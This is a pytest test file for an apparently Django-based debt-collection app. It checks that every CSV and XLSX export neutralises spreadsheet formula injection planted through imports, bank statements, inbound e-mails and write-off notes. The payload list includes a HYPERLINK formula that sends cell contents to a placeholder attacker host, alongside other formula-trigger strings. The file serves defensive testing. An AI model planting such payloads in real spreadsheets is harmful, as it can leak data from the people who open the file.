"""No export hands a spreadsheet a formula: text planted through the real paths (customer names from
an import, a bank transfer's remittance text from a statement, an e-mail from the debtor, a
write-off's reason) comes out of every CSV with a ``'`` in front and out of every XLSX as a
string cell, while amounts (negative ones too) stay numbers. The last test keeps the class of
fault closed: nothing but ``recoup.lib.spreadsheet`` may write CSV or XLSX.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from email.message import EmailMessage
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse

ROOT = Path(__file__).resolve().parents[1]
PAYLOADS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1", "-1+2", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1"]
ON = date(2026, 3, 31)


def _csv_cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _inert(cell: str) -> bool:
    """What a spreadsheet would not run: no formula character first, or a plain (negative) number."""
    return cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n") or re.fullmatch(r"-?[0-9]+([.,][0-9]+)?", cell)


def _check_csv(text: str, planted: set[str], delimiter: str = ",") -> list[str]:
    cells = _csv_cells(text, delimiter)
    assert [c for c in cells if not _inert(c)] == []
    assert {"'" + p for p in planted} <= set(cells), "the planted text is in the file, neutralised"
    return cells


@pytest.fixture
def clock(monkeypatch, now):
    from django.utils import timezone

    monkeypatch.setattr(timezone, "now", lambda: now)
    return now


@pytest.fixture
def planted(org_a, system, now, clock, settings):
    """Six customers named after the payloads (through the CSV import, which strips the leading tab
    and CR: the names stored are what counts), each with two invoices, a bank transfer whose
    remittance text begins with a payload, and an e-mail from the debtor with a payload for
    subject and body; one invoice written off with a payload for reason, then partly recovered."""
    from recoup.banking.actions import line_confirm
    from recoup.banking.models import OPEN_STATES, StatementLine
    from recoup.banking.tests.builders import Entry, camt053, import_confirmed
    from recoup.escalation.writeoff_actions import write_off_recover
    from recoup.ledger.actions import invoice_write_off
    from recoup.ledger.imports import import_csv
    from recoup.ledger.models import Customer, Invoice
    from recoup.messaging.inbound import record_inbound, reply_address

    settings.RECOUP_INBOUND_DOMAIN = "in.recoup.example"
    buf = io.StringIO()
    writer = csv.writer(buf)  # the test builds an import file; the product never writes CSV like this
    writer.writerow(["ref", "name", "email", "phone"])
    for i, p in enumerate(PAYLOADS, start=1):
        writer.writerow([f"P{i}", p, f"p{i}@debtor.example", "+44 20 7946 0000"])
    result = import_csv(org=org_a, kind="customers", name="customers.csv", data=buf.getvalue(), actor=system, now=now)
    assert not result.errors
    rows = ["number,customer_ref,issue_date,due_date,amount"]
    rows += [f"P{i}-{k},P{i},2026-01-01,2026-01-31,100.00" for i in range(1, 7) for k in (1, 2)]
    assert not import_csv(org=org_a, kind="invoices", name="invoices.csv", data="\n".join(rows), actor=system,
                          now=now).errors
    customers = list(Customer.objects.for_org(org_a).order_by("ref"))
    names = {c.legal_name for c in customers}
    assert names == {p.strip() for p in PAYLOADS}

    entries = [Entry("10.00", date(2026, 3, 2), name=p.strip(), text=f"{p} P{i}-1")
               for i, p in enumerate(PAYLOADS, start=1)]
    import_confirmed(org=org_a, file_name="statement.xml", data=camt053(entries), actor=system, now=now)
    for line in StatementLine.objects.for_org(org_a).filter(state__in=OPEN_STATES).order_by("position"):
        number = re.search(r"P\d-1", line.text).group(0)
        line_confirm(org=org_a, line=line, invoices=[Invoice.objects.get(org=org_a, number=number)], actor=system,
                     now=now)
    references = {line.text for line in StatementLine.objects.for_org(org_a)}
    assert all(any(r.startswith(p.strip()) for r in references) for p in PAYLOADS)

    for i, (customer, p) in enumerate(zip(customers, PAYLOADS), start=1):
        mail = EmailMessage()
        mail["From"], mail["To"] = f"p{i}@debtor.example", reply_address(customer)
        mail["Subject"], mail["Message-ID"] = p.strip(), f"<m{i}@debtor.example>"
        mail.set_content(p, cte="base64")  # the body keeps its leading tab (a CR arrives as LF)
        record_inbound(raw_or_message=mail.as_bytes(), now=now)

    written = invoice_write_off(org=org_a, invoice=Invoice.objects.get(org=org_a, number="P1-2"),
                                on=date(2026, 3, 5), reason="-1+2 said the debtor", actor=system, now=now)
    write_off_recover(org=org_a, write_off=written, on=date(2026, 3, 20), amount_minor=2550, actor=system, now=now,
                      note="@SUM(A1:A9) via the agency")
    return {"customers": customers, "names": names, "references": references}


@pytest.fixture
def owner(client, org_a, system, now):
    from recoup.orgs.actions import member_add

    client.force_login(member_add(org=org_a, username="a-owner", role="owner", actor=system, now=now).user)
    return client


def test_the_aging_csv_on_the_page_and_from_the_command(planted, owner, org_a):
    page = owner.get(reverse("aging", args=[org_a.slug]) + "?format=csv&as_of=2026-03-31").content.decode()
    _check_csv(page, planted["names"])
    out = io.StringIO()
    call_command("aging", "--org", org_a.slug, "--as-of", "2026-03-31", "--format", "csv", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    _check_csv(out.getvalue(), planted["names"])
    assert {r["customer"] for r in rows} == {"'" + n for n in planted["names"]}


def test_the_messages_csv(planted, owner, org_a):
    from recoup.messaging.models import Message

    for customer, p in zip(planted["customers"], PAYLOADS):
        body = Message.objects.get(customer=customer).body_text
        assert body.rstrip("\n") in (p, p.replace("\r", "\n")), "the e-mail's text keeps its tab (CR reads as LF)"
        url = reverse("customer_messages_csv", args=[org_a.slug, customer.pk])
        text = owner.get(url).content.decode()
        [row] = csv.DictReader(io.StringIO(text))
        assert (row["subject"], row["content"]) == ("'" + p.strip(), "'" + body)
        _check_csv(text, {p.strip()})


def test_the_journals_and_balances(planted, owner, org_a, tmp_path):
    url = reverse("api_export", args=[org_a.slug, "payments"]) + "?from=2026-01-01&to=2026-12-31"
    payments = owner.get(url).content.decode()
    cells = _check_csv(payments, planted["names"] | planted["references"])
    assert "10.00" in cells
    out = tmp_path / "payments.csv"
    call_command("export", "journal", "--kind", "payments", "--from", "2026-01-01", "--to", "2026-12-31",
                 "--org", org_a.slug, "--output", str(out))
    assert out.read_bytes() == payments.encode()
    write_offs = owner.get(reverse("api_export", args=[org_a.slug, "write-offs"]) + "?from=2026-01-01&to=2026-12-31")
    assert "Written off: -1+2 said the debtor" in _csv_cells(write_offs.content.decode())
    balances = owner.get(reverse("api_export", args=[org_a.slug, "balances"]) + "?as_of=2026-03-31").content.decode()
    _check_csv(balances, planted["names"])


def test_the_insight_tables_in_csv_and_xlsx(planted, owner, org_a):
    from openpyxl import load_workbook

    url = reverse("insight_export", args=[org_a.slug, "risk", "csv"]) + "?as_of=2026-03-31"
    _check_csv(owner.get(url).content.decode(), planted["names"])
    url = reverse("insight_export", args=[org_a.slug, "risk", "xlsx"]) + "?as_of=2026-03-31"
    sheet = load_workbook(io.BytesIO(owner.get(url).content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value: c for c in cells if c.data_type == "s"}
    assert planted["names"] <= set(texts), "the text is kept exactly, as text"
    assert all(texts[n].quotePrefix for n in planted["names"])
    header = [c.value for c in next(sheet.iter_rows())]
    opens = [row[header.index("Open")].value for row in sheet.iter_rows(min_row=2)]
    assert opens and all(isinstance(v, (int, float)) for v in opens), "amounts stay numbers"


@pytest.mark.parametrize("file_format,delimiter", [("csv", ","), ("csv_semicolon", ";")])
def test_the_placement_file(planted, owner, org_a, system, now, file_format, delimiter):
    from recoup.escalation.placement_actions import agency_save, place_accounts

    agency = agency_save(org=org_a, name="+Northern Recoveries", commission_percent=Decimal("20"), actor=system, now=now, file_format=file_format,
                         email="files@northern.example")
    [placement, *_] = place_accounts(org=org_a, agency=agency, customers=planted["customers"][1:], on=ON,
                                     actor=system, now=now)
    text = owner.get(reverse("escalation_placement_file", args=[org_a.slug, placement.pk])).content.decode()
    rows = list(csv.DictReader(io.StringIO(text), delimiter=delimiter))
    _check_csv(text, {planted["customers"][1].legal_name, "+Northern Recoveries", "+44 20 7946 0000"}, delimiter)
    assert rows[0]["phone"] == "'+44 20 7946 0000" and rows[0]["amount_placed"] == ("90.00", "90,00")[delimiter == ";"]


def test_the_bad_debt_report_keeps_recoveries_as_negative_numbers(planted, owner, org_a):
    text = owner.get(reverse("escalation_bad_debts", args=[org_a.slug, 2026])).content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    _check_csv(text, {planted["customers"][0].legal_name, "-1+2 said the debtor", "@SUM(A1:A9) via the agency"})
    assert [(r["type"], r["amount"]) for r in rows] == [("write_off", "100.00"), ("recovery", "-25.50"),
                                                         ("total", "74.50")]


def test_the_evidence_packs_communication_log(planted, org_a, now):
    from recoup.escalation.evidence import evidence_files

    customer = planted["customers"][4]  # the tab
    _, data = evidence_files(org=org_a, customer=customer, on=ON, now=now)
    log = zipfile.ZipFile(io.BytesIO(data)).read("communication-log.csv").decode("utf-8")
    [row] = csv.DictReader(io.StringIO(log))  # the debtor's e-mail
    assert (row["subject"], row["content"].rstrip("\n")) == ("'=1+1", "'\t=1+1")
    _check_csv(log, set())


# -- the class of fault stays closed ---------------------------------------------------------

WRITERS = re.compile(r"csv\.(Dict)?[Ww]riter\b|from csv import .*[Ww]riter|import csv as|\bopenpyxl\b|\bxlsxwriter\b"
                     r"|\bWorkbook\(|\bodf\b|\bpyexcel")


def test_only_the_safe_module_writes_csv_or_xlsx():
    """A new export must use ``recoup.lib.spreadsheet`` (CsvWriter, csv_text, xlsx_bytes)."""
    allowed = {ROOT / "recoup/lib/spreadsheet.py"}
    found = []
    for folder in ("recoup", "bench", "fuzz"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path in allowed or "tests" in path.relative_to(ROOT).parts:
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
                if WRITERS.search(line):
                    found.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert found == []
